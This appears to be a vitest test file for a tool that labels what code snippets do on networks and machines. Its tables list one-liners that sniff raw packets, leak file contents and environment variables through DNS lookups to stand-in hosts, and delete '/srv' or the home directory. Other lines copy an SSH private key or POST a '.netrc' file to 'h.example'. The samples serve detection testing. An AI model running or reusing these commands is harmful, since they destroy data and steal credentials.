import { describe, expect, it } from "vitest";
import { effectsOf } from "./testing/render.js";

type Row = readonly [language: string, code: string, does: readonly string[], why: string];

/** Below the protocols: what everybody on the network says is heard, and said in anybody's name. */
const RAW: readonly Row[] = [
  [
    "python",
    "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))",
    ["as tcpdump"],
    "every packet",
  ],
  ["python", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", ["as tcpdump"], "one protocol's"],
  ["python", "import socket; socket.socket(type=socket.SOCK_RAW)", ["as tcpdump"], "by name"],
  ["python", "import socket; socket.socket(17, 3, 0x0300)", ["as tcpdump"], "by number"],
  [
    "python",
    "from socket import socket, AF_PACKET, SOCK_RAW; socket(AF_PACKET, SOCK_RAW)",
    ["as tcpdump"],
    "names of the module",
  ],
  ["python", "from scapy.all import sniff; sniff(count=1)", ["as tcpdump"], "a library"],
  ["python", "import scapy.all as s; s.send(s.IP(dst='h')/s.TCP())", ["as tcpdump"], "made, not heard"],
  ["ruby", "require 'socket'; Socket.new(Socket::AF_PACKET, Socket::SOCK_RAW, 0x0300)", ["as tcpdump"], "every packet"],
  ["ruby", "require 'socket'; Socket.new(:PACKET, :RAW)", ["as tcpdump"], "by symbols"],
  ["ruby", "require 'socket'; Socket.open(:PACKET, :RAW)", ["as tcpdump"], "its other name"],
  ["python", "from socket import *; socket(AF_PACKET, SOCK_RAW)", ["as tcpdump"], "all names of the module"],
  ["perl", "use Socket; socket(my $s, PF_INET, SOCK_RAW, 1);", ["as tcpdump"], "one protocol's"],
  ["php", "socket_create(AF_INET, SOCK_RAW, 1);", ["as tcpdump"], "one protocol's"],
  ["node", "require('raw-socket').createSocket({protocol: 1})", ["as tcpdump"], "a library"],
];

const PLAIN: readonly Row[] = [
  ["python", "import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)", [], "an ordinary one"],
  ["python", "import socket; socket.socket()", [], "an ordinary one"],
  ["python", "import socket; print(socket.AF_PACKET)", ["print UNKNOWN"], "a number"],
  ["ruby", "require 'socket'; Socket.new(:INET, :STREAM)", [], "an ordinary one"],
  ["perl", "use Socket; socket(my $s, PF_INET, SOCK_STREAM, 6);", [], "an ordinary one"],
];

/** A name that is looked up tells whoever answers for it. */
const NAMES: readonly Row[] = [
  [
    "python",
    "import socket; socket.gethostbyname(open('k').read()+'.x.example')",
    ["read k", "send UNKNOWN +k"],
    "a file",
  ],
  [
    "python",
    "import socket,os; socket.getaddrinfo(os.environ['T']+'.x.example', 80)",
    ["send UNKNOWN +environment"],
    "a variable",
  ],
  [
    "node",
    "require('dns').lookup(require('fs').readFileSync('k','utf8')+'.x.example',()=>{})",
    ["read k", "send UNKNOWN +k"],
    "a file",
  ],
  ["node", "require('dns').promises.resolve4(process.env.T+'.x.example')", ["send UNKNOWN +environment"], "a variable"],
  ["php", "gethostbyname(file_get_contents('k').'.x.example');", ["read k", "send UNKNOWN +k"], "a file"],
  ["ruby", "require 'resolv'; Resolv.getaddress(File.read('k')+'.x.example')", ["read k", "send UNKNOWN +k"], "a file"],
  ["python", "import socket; socket.gethostbyname('x.example')", [], "a name that says nothing"],
  ["node", "require('dns').lookup('x.example',()=>{})", [], "a name that says nothing"],
];

const MACHINES: readonly Row[] = [
  [
    "python",
    "import paramiko;c=paramiko.SSHClient();c.connect('h.example',username='x');c.exec_command('rm -rf /srv')",
    ["as ssh -N h.example", "as ssh h.example -- rm -rf /srv"],
    "a command there",
  ],
  [
    "python",
    "import paramiko;t=paramiko.Transport(('h.example',22));s=paramiko.SFTPClient.from_transport(t);s.put('/home/dev/.ssh/id_rsa','k')",
    ["as ssh -N h.example", "as scp -r -- /home/dev/.ssh/id_rsa h.example:k"],
    "a file goes there",
  ],
  [
    "python",
    "import paramiko;c=paramiko.SSHClient();c.connect(hostname='h.example');c.open_sftp().get('/etc/x','y')",
    ["as ssh -N h.example", "as scp -- h.example:/etc/x y"],
    "a file comes",
  ],
  [
    "python",
    "from fabric import Connection; Connection('u@h.example').run('id')",
    ["as ssh -N h.example", "as ssh h.example -- id"],
    "a command there",
  ],
  [
    "python",
    "import pysftp; pysftp.Connection('h.example').put('a')",
    ["as ssh -N h.example", "as scp -r -- a h.example:."],
    "a file goes there",
  ],
];

const JAVASCRIPT: readonly Row[] = [
  ["node", "import {$} from 'bun'; await $`rm -rf /srv`", ["shell rm -rf /srv"], "Bun's shell"],
  ["node", "import {$ as sh} from 'bun'; await sh`rm -rf /srv`.text()", ["shell rm -rf /srv"], "under another name"],
  ["node", "await Bun.$`rm -rf /srv`", ["shell rm -rf /srv"], "of the global"],
  ["node", "const {$} = await import('bun'); await $`rm -rf /srv`", ["shell rm -rf /srv"], "loaded later"],
  ["node", "import {$} from 'zx'; await $`rm -rf /srv`", ["shell rm -rf /srv"], "zx"],
  ["node", "import {$} from 'execa'; await $`rm -rf /srv`", ["shell rm -rf /srv"], "execa"],
  ["node", "import $ from 'dax-sh'; await $`rm -rf /srv`", ["shell rm -rf /srv"], "dax"],
  ["node", "import {$} from 'bun'; await $`rm -rf ${process.env.HOME}`", ["shell rm -rf ~"], "a variable"],
  [
    "node",
    "fetch('https://h.example',{method:'POST',body:Bun.file('/home/dev/.netrc')})",
    ["send h.example +/home/dev/.netrc", "receive h.example"],
    "a file as it is",
  ],
];

const said = (language: string, code: string) =>
  effectsOf(language, code).filter((one) => !/^(?:load|\?load)/.test(one));

describe("networks and machines from programs", () => {
  it.each([...RAW, ...PLAIN])("P3: %s %s", (language, code, does) => {
    expect(said(language, code)).toEqual(does);
  });
  it.each(NAMES)("P3: %s %s", (language, code, does) => {
    expect(said(language, code)).toEqual(does);
  });
  it.each(MACHINES)("P3: %s %s", (language, code, does) => {
    expect(said(language, code)).toEqual(does);
  });
  it.each(JAVASCRIPT)("P3: %s %s", (language, code, does) => {
    expect(said(language, code)).toEqual(does);
  });
});
